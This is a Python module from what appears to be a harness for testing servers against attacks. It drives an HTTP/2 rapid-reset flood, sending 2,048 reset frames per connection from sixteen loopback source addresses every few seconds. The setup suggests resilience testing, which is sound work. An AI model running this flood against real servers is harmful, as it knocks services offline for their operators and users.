"""Sixteen addresses with a connection each, which brings 2,048 calls that are reset, and waits."""

from __future__ import annotations

import sys
import time
from contextlib import suppress

from attacks.a02_rapid_reset import resets
from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import connected

_SOURCES = [f"127.0.0.{number}" for number in range(2, 18)]
_RESETS = 2048
_EVERY_S = 4.5


def _strike(target: Target, begin: Begin) -> Counts:
    frames = resets(target, _RESETS)
    connections = 0
    until = begin()
    while time.monotonic() < until:
        began = time.monotonic()
        for source in _SOURCES:
            with suppress(OSError), connected(target.place, source=source) as connection:
                connections += 1
                connection.sendall(frames)
                # Until the server has read some: a connection that is closed before brings none.
                connection.recv(1 << 16)
        time.sleep(max(0.0, min(until, began + _EVERY_S) - time.monotonic()))
    return {"connections": connections, "resets": connections * _RESETS}


ATTACK = Attack("resets from sixteen addresses", _strike, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
